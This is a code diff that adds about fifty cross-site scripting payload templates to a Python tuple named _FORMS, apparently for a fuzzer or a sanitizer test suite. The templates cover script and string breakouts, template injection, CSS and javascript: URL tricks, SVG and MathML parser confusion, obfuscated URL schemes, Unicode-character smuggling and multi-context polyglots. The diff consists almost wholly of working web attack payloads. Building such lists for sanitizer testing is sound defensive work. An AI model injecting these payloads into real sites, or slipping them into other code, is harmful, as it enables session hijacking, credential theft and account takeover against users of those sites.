@@ -95,6 +95,58 @@ _FORMS = (
     "<p/onpointerrawupdate={0}>x",
     "<x onanimationstart={0}>x</x>",
     "<button popovertarget=x onclick={0}>x</button><div popover id=x onbeforetoggle={0}>x</div>",
+    # Out of JSON in a script, and out of a string in one.
+    '","x":"</script><script>{0}</script>',
+    '"}}</script><img src=x onerror={0}>',
+    "<!--<script>{0}</script>-->",
+    "\\u003c/script\\u003e\\u003cscript\\u003e{0}\\u003c/script\\u003e",
+    "';{0}//",
+    '";{0}//',
+    "`-{0}-`",
+    "\\';{0}//",
+    "*/{0}/*",
+    "\u2028{0}\u2029",
+    # Templates.
+    "{{{{ ''.__class__.__mro__ }}}}<svg onload={0}>",
+    "{{% for x in [1] %}}<svg onload={0}>{{% endfor %}}",
+    "<%= {0} %><svg onload={0}>",
+    "#{{{0}}}",
+    # CSS.
+    "</style><svg onload={0}>",
+    "x:expression({0})",
+    "<style>*{{background:url('javascript:{0}')}}</style>",
+    '<p style="behavior:url(javascript:{0})">x</p>',
+    # Namespaces and parsers that disagree.
+    "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror={0}></annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
+    "<svg></p><style><a id='</style><img src=x onerror={0}>'>",
+    "<noscript><img src=x onerror={0}></noscript>",
+    "<listing>&lt;img src=x onerror={0}&gt;</listing>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}/>#x'/></svg>",
+    "<script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>",
+    "]]><script xmlns='http://www.w3.org/1999/xhtml'>{0}</script><![CDATA[",
+    "<?xml-stylesheet href='javascript:{0}'?>",
+    # Addresses.
+    "JaVaScRiPt:{0}",
+    "\tjavascript:{0}",
+    "java\nscript:{0}",
+    "javascript&colon;{0}",
+    "//javascript:{0}",
+    "data:image/svg+xml,<svg onload={0}>",
+    "[x](javascript:{0})",
+    "![x](x){{onerror={0}}}",
+    # Characters.
+    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
+    "\u202e<img src=x onerror={0}>",
+    "<img\u00a0src=x\u00a0onerror={0}>",
+    "<img\u000csrc=x\u000conerror={0}>",
+    "<\u017fcript>{0}</\u017fcript>",
+    "\U000e003cscript\U000e003e{0}",
+    # Several contexts at once.
+    "'\"--></style></script></title></textarea><svg/onload={0}>",
+    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onfocus=1/+{0}//'>",
+    "\"autofocus onfocus={0} '><img src=x onerror={0}>",
 )
 
 PAYLOADS = tuple(
